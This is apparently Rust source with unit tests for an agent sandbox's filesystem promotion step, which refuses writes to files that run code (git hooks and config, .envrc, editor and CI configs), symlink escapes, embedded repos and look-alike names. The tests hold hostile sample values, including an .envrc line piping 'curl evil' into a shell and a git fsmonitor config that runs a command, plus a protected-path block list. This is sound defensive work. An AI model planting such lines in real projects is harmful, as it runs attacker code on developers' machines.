            (_, FileKind::Symlink) => self.symlink_step(c)?,
            (_, kind) => Err(Refusal::Special { kind }),
        };
        let (op, staged) = match step {
            Ok(step) => step,
            Err(r) => {
                self.refused.push((c.path.clone(), r));
                return Ok(());
            }
        };
        if matches!(op, Op::File { .. } | Op::Symlink { .. }) && existing == Existing::Dir {
            // Replaced by a non-directory: nothing of the old tree survives.
            self.fresh.insert(c.path.clone());
        }
        self.entries.push(Entry {
            path: c.path.clone(),
            kind: c.kind,
            op,
            existing,
            staged,
        });
        Ok(())
    }

    /// What the target has at `c.path` when `c` may become a step: the rules, the nested
    /// `.git` rule, the path's lookup in the target, what a removal would take with it and
    /// set-id bits. `Ok(None)` for the workspace's own history, which comes back as commits
    /// (`crate::history`), never as files below a `.git`.
    fn admit(&self, c: &Change) -> Result<Result<Option<Existing>, Refusal>, PromoteError> {
        let removal = c.kind == ChangeKind::Deleted;
        if let Some(r) = self.rules.check(&c.path, c.file_type, removal) {
            return Ok(Err(r));
        }
        if crate::history::is_history_path(&c.path) {
            return Ok(Ok(None));
        }
        if let Some(r) = nested_git(&c.path, c.file_type, removal) {
            return Ok(Err(r));
        }
        let existing = match lookup(&self.root, &c.path, &self.fresh)? {
            Ok(e) => e,
            Err(r) => return Ok(Err(r)),
        };
        // Whatever a step removes from the target must be removable too.
        let removes_tree = match (c.kind, c.file_type) {
            (ChangeKind::OpaqueDir, _) | (ChangeKind::Deleted, _) => existing == Existing::Dir,
            (_, FileKind::Dir) => false,
            _ => existing == Existing::Dir,
        };
        if removes_tree {
            let bad = scan_tree(&self.root, &c.path)?
                .into_iter()
                .find_map(|(p, k)| self.rules.check(&p, k, true).map(|r| (p, r)));
            if let Some((path, why)) = bad {
                return Ok(Err(Refusal::RemovesRefused {
                    path,
                    why: Box::new(why),
                }));
            }
        }
        if c.kind != ChangeKind::Deleted && c.mode & 0o6000 != 0 {
            return Ok(Err(Refusal::SetId { mode: c.mode }));
        }
        Ok(Ok(Some(existing)))
    }

    /// A directory: created, or cleared when an opaque directory replaces the target's.
    fn dir_step(&mut self, c: &Change, existing: Existing) -> (Op, Option<CString>) {
        let clear = c.kind == ChangeKind::OpaqueDir && existing == Existing::Dir;
        if existing != Existing::Dir || clear {
            self.fresh.insert(c.path.clone());
        }
        (Op::Dir { clear }, None)
    }

    /// A regular file: read, hashed and staged once; a further name of the same file
    /// becomes a hard link to the first, and a file linked from outside the change set is
    /// refused.
    fn file_step(&mut self, c: &Change) -> Result<Step, PromoteError> {
        let Some(m) = self.footprint.file(&c.path).copied() else {
            return Err(PromoteError::Changed {
                path: c.path.clone(),
            });
        };
        // Every name of a linked file must be in the change set.
        let inside = self.footprint.names_of(&m);
        if m.nlink > inside {
            return Ok(Err(Refusal::HardLink {
                nlink: m.nlink,
                inside,
            }));
        }
        if let Some(first) = self.copied.get(&m.id).cloned() {
            return self.another_name(c, &m, first).map(Ok);
        }
        let (st, sha256, data, staged) = copy_and_hash(
            &self.upper_fd,
            self.upper,
            &c.path,
            c,
            Some(&m),
            self.staging.as_mut(),
            self.owner,
        )?;
        let op = Op::File {
            mode: normal_file_mode(st.st_mode),
            size: size_of(&st),
            data,
            sha256,
            link: None,
        };
        if m.nlink > 1 {
            self.copied
                .insert(m.id, (c.path.clone(), op.clone(), staged.clone()));
        }
        Ok(Ok((op, staged)))
    }

    /// A further name of a file already read: checked to be the same file still, staged as
    /// a hard link to the first name's copy.
    fn another_name(
        &mut self,
        c: &Change,
        m: &Measured,
        (first, first_op, first_staged): (PathBuf, Op, Option<CString>),
    ) -> Result<(Op, Option<CString>), PromoteError> {
        let (_, st) = open_source(&self.upper_fd, self.upper, &c.path)?;
        if (st.st_dev, st.st_ino) != m.id || st.st_mode & 0o7777 != c.mode {
            return Err(PromoteError::Changed {
                path: c.path.clone(),
            });
        }
        let staged = match (self.staging.as_mut(), first_staged) {
            (Some(s), Some(from)) => {
                let name = s.next_name();
                rustix::fs::linkat(
                    &s.fd,
                    from.as_c_str(),
                    &s.fd,
                    name.as_c_str(),
                    AtFlags::empty(),
                )
                .map_err(io_at("stage hard link", &c.path))?;
                Some(name)
            }
            _ => None,
        };
        let op = match first_op {
            Op::File {
                mode,
                size,
                data,
                sha256,
                ..
            } => Op::File {
                mode,
                size,
                data,
                sha256,
                link: Some(first),
            },
            other => other,
        };
        Ok((op, staged))
    }

    /// A symlink: its target must resolve lexically inside the tree, outside any `.git`,
    /// and not to a refused path; staged with the target's owner.
    fn symlink_step(&mut self, c: &Change) -> Result<Step, PromoteError> {
        let link_target = PathBuf::from(read_link(&self.upper_fd, self.upper, &c.path)?);
        let resolved = match resolve_link(&c.path, &link_target) {
            Ok(r) => r,
            Err(r) => return Ok(Err(r)),
        };
        if resolved.iter().any(|c| c == ".git") {
            return Ok(Err(Refusal::SymlinkIntoGit));
        }
        let why = if resolved.as_os_str().is_empty() {
            None
        } else {
            self.rules.check(&resolved, FileKind::Unknown, false)
        };
        if let Some(why) = why {
            return Ok(Err(Refusal::SymlinkToRefused { why: Box::new(why) }));
        }
        self.links.push((c.path.clone(), resolved));
        let staged = match self.staging.as_mut() {
            Some(s) => Some(stage_symlink(s, &link_target, &c.path, self.owner)?),
            None => None,
        };
        Ok(Ok((
            Op::Symlink {
                target: link_target,
            },
            staged,
        )))
    }

    /// Symlinks may not resolve through another symlink (planned, or already in the target).
    fn refuse_links_through_links(
        &mut self,
        all_links: &BTreeSet<&Path>,
    ) -> Result<(), PromoteError> {
        let planned: BTreeMap<&Path, &Op> = self
            .entries
            .iter()
            .map(|e| (e.path.as_path(), &e.op))
            .collect();
        for (link, resolved) in &self.links {
            let mut prefix = PathBuf::new();
            for comp in resolved.iter() {
                prefix.push(comp);
                let through = match planned.get(prefix.as_path()) {
                    _ if all_links.contains(prefix.as_path()) => true,
                    Some(_) => false,
                    None => matches!(
                        lookup(&self.root, &prefix, &self.fresh)?,
                        Ok(Existing::Symlink) | Err(_)
                    ),
                };
                if through {
                    self.refused.push((
                        link.clone(),
                        Refusal::SymlinkThroughLink {
                            via: prefix.clone(),
                        },
                    ));
                    break;
                }
            }
        }
        Ok(())
    }

    /// A directory outside .git that ends up a git directory (HEAD beside objects/refs, or
    /// commondir/gitdir, which send git elsewhere for them) is a repository to git: its
    /// config would run commands for whoever runs git there. Names compare
    /// case-insensitively.
    fn refuse_embedded_repos(&mut self) -> Result<(), PromoteError> {
        let dirs_touched: BTreeSet<PathBuf> = self
            .entries
            .iter()
            .filter(|e| e.op != Op::Delete)
            .map(|e| e.path.parent().unwrap_or(Path::new("")).to_owned())
            .collect();
        for d in dirs_touched {
            if d.iter().any(|c| crate::history::is_dot_git(c.as_bytes())) {
                continue;
            }
            let mut names = self.names_in_target(&d)?;
            for e in &self.entries {
                if e.path.parent().unwrap_or(Path::new("")) == d {
                    let n = e.path.file_name().unwrap_or_default().as_bytes().to_vec();
                    if e.op == Op::Delete {
                        names.remove(&n);
                    } else {
                        names.insert(n);
                    }
                }
            }
            if crate::history::is_git_dir_names(names.iter().map(Vec::as_slice)) {
                self.refused.push((d, Refusal::EmbeddedRepo));
            }
        }
        Ok(())
    }

    /// The names the target's directory `d` holds now; none when the plan creates or
    /// clears it, or when it cannot be opened beneath the target without a symlink.
    fn names_in_target(&self, d: &Path) -> Result<BTreeSet<Vec<u8>>, PromoteError> {
        let mut names: BTreeSet<Vec<u8>> = BTreeSet::new();
        if self.fresh.contains(d) || d.ancestors().skip(1).any(|a| self.fresh.contains(a)) {
            return Ok(names);
        }
        let fd = if d.as_os_str().is_empty() {
            rustix::io::fcntl_dupfd_cloexec(&self.root, 0).map_err(io_at("open", self.target))
        } else {
            rustix::fs::openat2(
                &self.root,
                d,
                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
                Mode::empty(),
                ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_MAGICLINKS,
            )
            .map_err(io_at("open directory", d))
        };
        if let Ok(fd) = fd {
            names.extend(names_of(&fd, d)?.into_iter().map(CString::into_bytes));
        }
        Ok(names)
    }

    /// The plan: refused entries in path order, and the digest of the steps.
    fn finish(mut self) -> Plan {
        self.refused.sort_by(|a, b| a.0.cmp(&b.0));
        let digest = digest(&self.entries);
        Plan {
            entries: self.entries,
            refused: self.refused,
            digest,
            footprint: self.footprint,
            owner: self.owner,
            target: self.target.to_owned(),
            root: self.root,
            staging: self.staging,
        }
    }
}

/// Stages a symlink to `link_target` in `s`, owned by the target's owner.
fn stage_symlink(
    s: &mut Staging,
    link_target: &Path,
    path: &Path,
    (uid, gid): (u32, u32),
) -> Result<CString, PromoteError> {
    let name = s.next_name();
    rustix::fs::symlinkat(link_target.as_os_str(), &s.fd, name.as_c_str())
        .map_err(io_at("stage symlink", path))?;
    rustix::fs::chownat(
        &s.fd,
        name.as_c_str(),
        Some(rustix::fs::Uid::from_raw(uid)),
        Some(rustix::fs::Gid::from_raw(gid)),
        AtFlags::SYMLINK_NOFOLLOW,
    )
    .map_err(io_at("chown staged symlink", path))?;
    Ok(name)
}

/// `sha256:` over every step: kind, path, and the mode and content hash of a file, the
/// target of a symlink, whether a directory is cleared.
fn digest(entries: &[Entry]) -> String {
    let mut h = Sha256::new();
    for e in entries {
        h.update([e.kind.letter() as u8, b' ']);
        h.update(e.path.as_os_str().as_bytes());
        h.update([0]);
        match &e.op {
            Op::Delete => h.update(b"delete"),
            Op::Dir { clear } => h.update(if *clear { &b"dir clear"[..] } else { b"dir" }),
            Op::File {
                mode,
                size,
                data,
                sha256,
                link,
            } => {
                h.update(format!("file {mode:o} {size} {data} ").as_bytes());
                h.update(sha256);
                if let Some(first) = link {
                    h.update(b" link ");
                    h.update(first.as_os_str().as_bytes());
                }
            }
            Op::Symlink { target } => {
                h.update(b"symlink ");
                h.update(target.as_os_str().as_bytes());
            }
        }
        h.update(b"\n");
    }
    format!("sha256:{}", hex::encode(h.finalize()))
}

impl Plan {
    /// The target directory.
    pub fn target(&self) -> &Path {
        &self.target
    }

    /// The `promoted` audit event for the entries in `applied` (all of them when complete).
    pub fn event(&self, applied: &[PathBuf], complete: bool) -> Event {
        let done: BTreeSet<&Path> = applied.iter().map(PathBuf::as_path).collect();
        let paths: Vec<String> = self
            .entries
            .iter()
            .filter(|e| done.contains(e.path.as_path()))
            .take(MAX_CHANGED_PATHS)
            .map(|e| format!("{} /{}", e.kind.letter(), e.path.to_string_lossy()))
            .collect();
        Event::Promoted {
            target: self.target.to_string_lossy().into_owned(),
            digest: self.digest.clone(),
            entries: applied.len() as u64,
            truncated: applied.len() > MAX_CHANGED_PATHS,
            paths,
            complete,
        }
    }
}

/// Walks to the parent of `rel` from the target root, `O_NOFOLLOW` on every component,
/// creating missing directories (0755, the target's owner).
fn open_parent_dir(
    root: &OwnedFd,
    rel: &Path,
    owner: (u32, u32),
) -> Result<OwnedFd, (&'static str, Errno)> {
    open_dirs(root, rel.parent().unwrap_or(Path::new("")), owner)
}

/// Walks every component of `rel` below `dir`, `O_NOFOLLOW` on each, creating missing
/// directories (0755, `owner`); the failed step and its cause on error.
pub(crate) fn open_dirs(
    dir: &OwnedFd,
    rel: &Path,
    owner: (u32, u32),
) -> Result<OwnedFd, (&'static str, Errno)> {
    let mut cur = rustix::io::fcntl_dupfd_cloexec(dir, 0).map_err(|e| ("open", e))?;
    for comp in rel.iter() {
        let open = |dir: &OwnedFd| {
            rustix::fs::openat(
                dir,
                comp,
                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
                Mode::empty(),
            )
        };
        cur = match open(&cur) {
            Ok(fd) => fd,
            Err(Errno::NOENT) => {
                rustix::fs::mkdirat(&cur, comp, Mode::from_raw_mode(0o755))
                    .map_err(|e| ("create directory", e))?;
                let fd = open(&cur).map_err(|e| ("open directory", e))?;
                chown_if_needed(fd.as_fd(), owner).map_err(|e| ("chown", e))?;
                fd
            }
            Err(e) => return Err(("open directory", e)),
        };
    }
    Ok(cur)
}

/// Removes `name` in `dir`: a whole tree for a directory, never following a link.
fn remove_tree(dir: BorrowedFd<'_>, name: &CStr) -> Result<(), Errno> {
    let st = match rustix::fs::statat(dir, name, AtFlags::SYMLINK_NOFOLLOW) {
        Ok(st) => st,
        Err(Errno::NOENT) => return Ok(()),
        Err(e) => return Err(e),
    };
    if FileType::from_raw_mode(st.st_mode) != FileType::Directory {
        return rustix::fs::unlinkat(dir, name, AtFlags::empty());
    }
    let sub = rustix::fs::openat(
        dir,
        name,
        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
        Mode::empty(),
    )?;
    clear_dir(&sub)?;
    rustix::fs::unlinkat(dir, name, AtFlags::REMOVEDIR)
}

fn clear_dir(dir: &OwnedFd) -> Result<(), Errno> {
    let mut names = Vec::new();
    for entry in Dir::read_from(dir)? {
        let entry = entry?;
        let n = entry.file_name();
        if n.to_bytes() != b"." && n.to_bytes() != b".." {
            names.push(n.to_owned());
        }
    }
    for n in names {
        remove_tree(dir.as_fd(), n.as_c_str())?;
    }
    Ok(())
}

fn apply_one(
    root: &OwnedFd,
    staging: &Staging,
    e: &Entry,
    owner: (u32, u32),
) -> Result<(), (&'static str, Errno)> {
    let parent = open_parent_dir(root, &e.path, owner)?;
    let name = CString::new(e.path.file_name().unwrap_or_default().as_bytes())
        .map_err(|_| ("resolve", Errno::INVAL))?;
    let now = match rustix::fs::statat(&parent, name.as_c_str(), AtFlags::SYMLINK_NOFOLLOW) {
        Ok(st) => file_type(&st),
        Err(Errno::NOENT) => Existing::Absent,
        Err(e) => return Err(("stat", e)),
    };
    // Only a tree the plan scanned may be removed.
    if now == Existing::Dir && e.existing != Existing::Dir && !matches!(e.op, Op::Dir { .. }) {
        return Err(("check (a directory appeared since the plan)", Errno::EXIST));
    }
    match &e.op {
        Op::Delete => remove_tree(parent.as_fd(), &name).map_err(|err| ("remove", err)),
        Op::Dir { clear } => {
            if now == Existing::Dir {
                if *clear {
                    let d = rustix::fs::openat(
                        &parent,
                        name.as_c_str(),
                        OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
                        Mode::empty(),
                    )
                    .map_err(|err| ("open directory", err))?;
                    clear_dir(&d).map_err(|err| ("clear directory", err))?;
                }
                return Ok(());
            }
            if now != Existing::Absent {
                rustix::fs::unlinkat(&parent, name.as_c_str(), AtFlags::empty())
                    .map_err(|err| ("remove", err))?;
            }
            rustix::fs::mkdirat(&parent, name.as_c_str(), Mode::from_raw_mode(0o755))
                .map_err(|err| ("create directory", err))?;
            let d = rustix::fs::openat(
                &parent,
                name.as_c_str(),
                OFlags::RDONLY | OFlags::DIRECTORY | OFlags::NOFOLLOW | OFlags::CLOEXEC,
                Mode::empty(),
            )
            .map_err(|err| ("open directory", err))?;
            chown_if_needed(d.as_fd(), owner).map_err(|err| ("chown", err))?;
            rustix::fs::fchmod(&d, Mode::from_raw_mode(0o755)).map_err(|err| ("chmod", err))
        }
        Op::File { .. } | Op::Symlink { .. } => {
            if now == Existing::Dir {
                remove_tree(parent.as_fd(), &name).map_err(|err| ("remove", err))?;
            }
            let staged = e
                .staged
                .as_ref()
                .ok_or(("find staged copy", Errno::NOENT))?;
            rustix::fs::renameat(&staging.fd, staged.as_c_str(), &parent, name.as_c_str())
                .map_err(|err| ("rename into place", err))
        }
    }
}

/// Applies a plan made by [`prepare`] with staging and without refusals. Returns the
/// paths applied (all of them). A failing step stops it with [`PromoteError::Partial`],
/// which names the step and what was applied before it.
pub fn apply(plan: &Plan) -> Result<Vec<PathBuf>, PromoteError> {
    if !plan.refused.is_empty() {
        return Err(PromoteError::NotApplicable {
            why: "it refuses entries",
        });
    }
    let Some(staging) = plan.staging.as_ref() else {
        return Err(PromoteError::NotApplicable {
            why: "it was prepared as a dry run",
        });
    };
    let mut applied = Vec::with_capacity(plan.entries.len());
    for e in &plan.entries {
        if let Err((op, err)) = apply_one(&plan.root, staging, e, plan.owner) {
            return Err(PromoteError::Partial {
                path: e.path.clone(),
                op,
                applied,
                total: plan.entries.len(),
                source: err.into(),
            });
        }
        applied.push(e.path.clone());
    }
    Ok(applied)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _, symlink};

    type TestResult = Result<(), Box<dyn std::error::Error>>;

    fn rules() -> Rules {
        Rules::new([
            ".git/hooks/",
            ".git/config",
            ".bashrc",
            ".envrc",
            ".mcp.json",
            ".vscode/",
            ".cargo/config.toml",
        ])
    }

    struct Fixture {
        _dir: tempfile::TempDir,
        upper: PathBuf,
        lower: PathBuf,
        target: PathBuf,
        outside: PathBuf,
    }

    fn fixture() -> Result<Fixture, Box<dyn std::error::Error>> {
        let dir = tempfile::tempdir()?;
        let p = dir.path().to_owned();
        let f = Fixture {
            upper: p.join("upper"),
            lower: p.join("lower"),
            target: p.join("target"),
            outside: p.join("outside"),
            _dir: dir,
        };
        for d in [&f.upper, &f.lower, &f.target, &f.outside] {
            std::fs::create_dir(d)?;
        }
        Ok(f)
    }

    impl Fixture {
        fn plan(&self, stage: bool) -> Result<Plan, PromoteError> {
            let changes = crate::diff(&self.upper, Some(&self.lower))?;
            prepare(
                &self.upper,
                &changes,
                &self.target,
                &rules(),
                stage,
                &SizeLimit::none(),
            )
        }

        fn refused(&self) -> Result<Vec<(String, Refusal)>, PromoteError> {
            let plan = self.plan(true)?;
            assert!(apply(&plan).is_err(), "a refusing plan must not apply");
            Ok(plan
                .refused
                .iter()
                .map(|(p, r)| (p.to_string_lossy().into_owned(), r.clone()))
                .collect())
        }

        /// Plans with staging, asserts that nothing is refused, and applies the plan.
        fn apply_all(&self) -> Result<(), PromoteError> {
            let plan = self.plan(true)?;
            assert!(plan.refused.is_empty(), "{:?}", plan.refused);
            apply(&plan)?;
            Ok(())
        }

        /// The content of the target's file `rel`.
        fn read(&self, rel: &str) -> io::Result<String> {
            std::fs::read_to_string(self.target.join(rel))
        }

        /// Every path in the target with its content (files), target (links) or `dir`.
        fn snapshot(&self) -> Vec<(String, String)> {
            let mut out = Vec::new();
            let mut stack = vec![self.target.clone()];
            while let Some(d) = stack.pop() {
                for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
                    let p = e.path();
                    let rel = p
                        .strip_prefix(&self.target)
                        .unwrap_or(&p)
                        .to_string_lossy()
                        .into_owned();
                    let m = std::fs::symlink_metadata(&p).ok();
                    let what = match m {
                        Some(m) if m.file_type().is_symlink() => {
                            format!("-> {:?}", std::fs::read_link(&p).ok())
                        }
                        Some(m) if m.is_dir() => {
                            stack.push(p.clone());
                            "dir".to_owned()
                        }
                        _ => std::fs::read_to_string(&p).unwrap_or_default(),
                    };
                    out.push((rel, what));
                }
            }
            out.sort();
            out
        }
    }

    fn write(path: &Path, text: &str) -> io::Result<()> {
        if let Some(p) = path.parent() {
            std::fs::create_dir_all(p)?;
        }
        std::fs::write(path, text)
    }

    #[test]
    fn protected_names_match_at_any_depth() {
        let r = rules();
        for p in [
            ".envrc",
            "pkg/.envrc",
            "a/b/.bashrc",
            ".vscode/tasks.json",
            "sub/.vscode",
            "x/.cargo/config.toml",
            "vendor/lib/.git/hooks/post-checkout",
        ] {
            assert!(
                r.check(Path::new(p), FileKind::File, false).is_some(),
                "{p} passed"
            );
        }
        for p in [
            "src/envrc",
            ".envrc.example/x",
            "cargo/config.toml",
            "a/.bashrc.d",
        ] {
            assert_eq!(r.check(Path::new(p), FileKind::File, false), None, "{p}");
        }
    }

    /// The policy's own list, as the runtime hands it to promotion.
    fn policy_rules() -> Rules {
        let names: Vec<String> = agent_sandbox_policy::policy::Filesystem::default()
            .protected_names()
            .iter()
            .map(ToString::to_string)
            .collect();
        Rules::new(names.iter().map(String::as_str))
    }

    #[test]
    fn tool_configurations_that_run_code_are_protected() {
        let r = policy_rules();
        for p in [
            ".claude/settings.json",
            ".claude/settings.local.json",
            "pkg/.claude/commands/x.md",
            ".cursor/mcp.json",
            ".mcp.json",
            ".husky/pre-commit",
            ".pre-commit-config.yaml",
            ".devcontainer/devcontainer.json",
            ".devcontainer.json",
            "mise.toml",
            ".mise.toml",
            ".tool-versions",
            ".envrc",
            ".npmrc",
            ".github/workflows/ci.yml",
            ".config/git/config",
            ".zshenv",
            "lefthook.yml",
        ] {
            assert!(
                matches!(
                    r.check(Path::new(p), FileKind::File, false),
                    Some(Refusal::Protected { .. })
                ),
                "{p} passed"
            );
        }
        for p in [
            ".github/CODEOWNERS",
            "src/claude.rs",
            "docs/mise.md",
            "config/git.toml",
        ] {
            assert_eq!(r.check(Path::new(p), FileKind::File, false), None, "{p}");
        }
    }

    #[test]
    fn names_are_compared_as_a_case_insensitive_target_reads_them() {
        let r = policy_rules();
        let check = |p: &str| r.check(Path::new(p), FileKind::File, false);
        for p in [
            ".ENVRC",
            "pkg/.EnvRc",
            ".BASHRC",
            ".bashrc.",
            ".bashrc ",
            ".bashrc:stream",
            ".Claude/settings.json",
            ".CURSOR/mcp.json",
            ".GITMODULES",
            ".gitmodules.",
            ".\u{17f}\u{17f}h/authorized_keys", // long s: .ssh
            ".\u{df}h/authorized_keys",         // sharp s folds to ss: .ssh
            ".\u{ff56}scode/tasks.json",        // fullwidth v
            ".Github/Workflows/ci.yml",
        ] {
            assert!(
                matches!(check(p), Some(Refusal::Protected { .. })),
                "{p:?}: {:?}",
                check(p)
            );
        }
        for p in [
            ".GIT/config",
            ".Git/hooks/x",
            ".git./config",
            ".git /config",
            ".git::$INDEX_ALLOCATION/config",
            "sub/.gIt/hooks/pre-commit",
            "\u{ff0e}git/config",
        ] {
            assert!(
                matches!(check(p), Some(Refusal::GitAlias { .. })),
                "{p:?}: {:?}",
                check(p)
            );
        }
        for p in [
            "git~1/config",
            "GIT~1/hooks/x",
            "gitmod~1",
            "gi7eba~1",
            "a/BASHRC~1",
        ] {
            assert!(
                matches!(check(p), Some(Refusal::ShortName { .. })),
                "{p:?}: {:?}",
                check(p)
            );
        }
        for p in [
            ".g\u{200c}it/config",
            ".git\u{200d}/config",
            "\u{feff}.git/config",
            "a\\.git\\config",
            "a//b",
            "a/./b",
            "a/../.git/config",
            "",
            "calc\u{e0041}.py",
        ] {
            assert_eq!(check(p), Some(Refusal::BadName), "{p:?}");
        }
        // The reserved names of agent-sandbox in another case are its names on such a target.
        assert_eq!(check(".AGENT-SANDBOX-PROMOTE-1"), Some(Refusal::Reserved));
        // Names that only look alike to a person, and real git content, still pass.
        for p in ["src/G\u{131}t.rs", "docs/readme.md", "notes~.txt"] {
            assert_eq!(check(p), None, "{p:?}");
        }
    }

    #[test]
    fn git_internals_outside_the_commit_allowlist_are_refused() {
        let r = rules();
        let refused = |p: &str, k| r.check(Path::new(p), k, false);
        for p in [
            ".git/objects/ab/cdef0123",
            ".git/objects/pack/pack-1.pack",
            ".git/refs/heads/main",
            ".git/logs/HEAD",
            ".git/logs/refs/heads/main",
            ".git/index",
            ".git/HEAD",
            ".git/ORIG_HEAD",
            ".git/COMMIT_EDITMSG",
            ".git/packed-refs",
            "sub/.git/HEAD",
        ] {
            assert_eq!(refused(p, FileKind::File), None, "{p}");
        }
        assert_eq!(refused(".git", FileKind::Dir), None);
        assert_eq!(refused(".git/objects", FileKind::Dir), None);
        for p in [
            ".git/config",
            ".git/config.worktree",
            ".git/commondir",
            ".git/hooks/pre-commit",
            ".git/info/attributes",
            ".git/info/exclude",
            ".git/modules/x/config",
            ".git/worktrees/w/gitdir",
            ".git/objects/info/alternates",
            ".git/shallow",
            "a/.git/index.lock",
        ] {
            assert!(refused(p, FileKind::File).is_some(), "{p} passed");
        }
        assert_eq!(
            refused("sub/.git", FileKind::File),
            Some(Refusal::GitNotDir)
        );
        assert_eq!(refused(".git", FileKind::Symlink), Some(Refusal::GitNotDir));
        assert_eq!(
            refused(".git/HEAD", FileKind::Symlink),
            Some(Refusal::GitSymlink)
        );
        assert!(refused(".git/hooks", FileKind::Dir).is_some());
        assert_eq!(
            r.check(Path::new(".git"), FileKind::Dir, true),
            Some(Refusal::GitRemoved)
        );
        assert_eq!(
            r.check(Path::new(".git/refs/heads/x"), FileKind::File, true),
            None
        );
    }

    #[test]
    fn control_characters_and_reserved_names_are_refused() {
        let r = rules();
        assert_eq!(
            r.check(Path::new("a\x1b[2Kb"), FileKind::File, false),
            Some(Refusal::BadName)
        );
        assert_eq!(
            r.check(
                Path::new(OsStr::from_bytes(b"bad\xff")),
                FileKind::File,
                false
            ),
            Some(Refusal::BadName)
        );
        for p in [
            ".agent-sandbox-deleted",
            "sub/.agent-sandbox-opaque",
            ".agent-sandbox-promote-1",
        ] {
            assert_eq!(
                r.check(Path::new(p), FileKind::File, false),
                Some(Refusal::Reserved),
                "{p}"
            );
        }
    }

    #[test]
    fn symlink_targets_resolve_lexically_inside_the_tree() {
        let ok = |l: &str, t: &str| resolve_link(Path::new(l), Path::new(t));
        assert_eq!(ok("a/b/link", "../c"), Ok(PathBuf::from("a/c")));
        assert_eq!(ok("link", "./x/y"), Ok(PathBuf::from("x/y")));
        assert_eq!(ok("a/link", ".."), Ok(PathBuf::new()));
        assert_eq!(ok("link", ".."), Err(Refusal::SymlinkEscapes));
        assert_eq!(ok("a/link", "../../etc"), Err(Refusal::SymlinkEscapes));
        assert_eq!(ok("link", "/etc/passwd"), Err(Refusal::SymlinkAbsolute));
        assert_eq!(ok("a/link", "x/../../y"), Err(Refusal::SymlinkDotDot));
    }

    #[test]
    fn edits_creates_and_deletes_are_applied_with_the_targets_owner() -> TestResult {
        let f = fixture()?;
        for base in [&f.lower, &f.target] {
            write(&base.join("keep.txt"), "keep\n")?;
            write(&base.join("old.txt"), "old\n")?;
            write(&base.join("edit.py"), "v1\n")?;
            write(&base.join("gone/deep/x"), "x\n")?;
            write(&base.join(".git/HEAD"), "ref: refs/heads/main\n")?;
            write(&base.join(".git/config"), "[core]\n")?;
        }
        write(&f.upper.join("edit.py"), "v2\n")?;
        std::fs::set_permissions(
            f.upper.join("edit.py"),
            std::fs::Permissions::from_mode(0o777),
        )?;
        write(&f.upper.join("new/dir/file.rs"), "fn main() {}\n")?;
        write(&f.upper.join(".git/refs/heads/main"), "0123\n")?;
        write(&f.upper.join(".git/objects/ab/cdef"), "blob")?;
        symlink("../keep.txt", f.upper.join("new/link"))?;
        // Whiteouts as overlayfs writes them with userxattr: a 0/0 char device needs
        // mknod, so use the xattr form.
        for gone in ["old.txt", "gone"] {
            std::fs::write(f.upper.join(gone), "")?;
            rustix::fs::lsetxattr(
                f.upper.join(gone).as_path(),
                "user.overlay.whiteout",
                b"",
                rustix::fs::XattrFlags::empty(),
            )?;
        }
        let dry = f.plan(false)?;
        assert!(dry.refused.is_empty(), "{:?}", dry.refused);
        let before = f.snapshot();
        assert!(apply(&dry).is_err(), "a dry run cannot be applied");
        assert_eq!(f.snapshot(), before, "the dry run changed the target");

        let plan = f.plan(true)?;
        assert_eq!(plan.digest, dry.digest);
        let lines: Vec<String> = plan.entries.iter().map(Entry::describe).collect();
        assert!(
            lines.contains(&"replace /edit.py (file 0755, 3 bytes)".to_owned()),
            "{lines:?}"
        );
        assert!(lines.contains(&"delete  /gone".to_owned()), "{lines:?}");
        let applied = apply(&plan)?;
        assert_eq!(applied.len(), plan.entries.len());
        drop(plan);
        assert_eq!(f.read("edit.py")?, "v2\n");
        let m = std::fs::metadata(f.target.join("edit.py"))?;
        assert_eq!(m.mode() & 0o7777, 0o755);
        assert_eq!(f.read("new/dir/file.rs")?, "fn main() {}\n");
        assert_eq!(
            std::fs::read_link(f.target.join("new/link"))?,
            Path::new("../keep.txt")
        );
        assert!(!f.target.join("old.txt").exists() && !f.target.join("gone").exists());
        assert_eq!(f.read(".git/config")?, "[core]\n");
        // History comes back as commits (crate::history), never as files below .git.
        assert!(!f.target.join(".git/refs").exists());
        assert!(!f.target.join(".git/objects").exists());
        assert!(lines.iter().all(|l| !l.contains(".git/")), "{lines:?}");
        let owner = std::fs::metadata(&f.target)?;
        for p in ["edit.py", "new", "new/dir/file.rs"] {
            let m = std::fs::symlink_metadata(f.target.join(p))?;
            assert_eq!((m.uid(), m.gid()), (owner.uid(), owner.gid()), "{p}");
        }
        // No staging directory is left behind.
        assert!(
            std::fs::read_dir(&f.target)?
                .flatten()
                .all(|e| !e.file_name().to_string_lossy().starts_with(STAGING_PREFIX))
        );
        Ok(())
    }

    #[test]
    fn one_refused_entry_leaves_the_target_untouched() -> TestResult {
        let f = fixture()?;
        write(&f.target.join("a.txt"), "host\n")?;
        write(&f.lower.join("a.txt"), "host\n")?;
        write(&f.upper.join("a.txt"), "agent\n")?;
        write(&f.upper.join("pkg/.envrc"), "curl evil | sh\n")?;
        write(&f.upper.join(".vscode/tasks.json"), "{}")?;
        write(&f.upper.join(".git/commondir"), "../evil\n")?;
        write(
            &f.upper.join("evil/config"),
            "[core]\n\tfsmonitor = touch /tmp/pwned\n",
        )?;
        write(&f.upper.join("sub/.git"), "gitdir: ../evil\n")?;
        let before = f.snapshot();
        let refused = f.refused()?;
        let names: Vec<&str> = refused.iter().map(|(p, _)| p.as_str()).collect();
        assert_eq!(
            names,
            [
                ".git/commondir",
                ".vscode",
                ".vscode/tasks.json",
                "pkg/.envrc",
                "sub/.git"
            ],
            "{refused:?}"
        );
        assert_eq!(f.snapshot(), before);
        Ok(())
    }

    #[test]
    fn symlinks_leaving_the_tree_or_reaching_protected_paths_are_refused() -> TestResult {
        let f = fixture()?;
        symlink(&f.outside, f.upper.join("abs"))?;
        symlink("../../outside", f.upper.join("rel"))?;
        symlink(".git/config", f.upper.join("cfg"))?;
        symlink("pkg/.envrc", f.upper.join("env"))?;
        std::fs::create_dir(f.upper.join("d"))?;
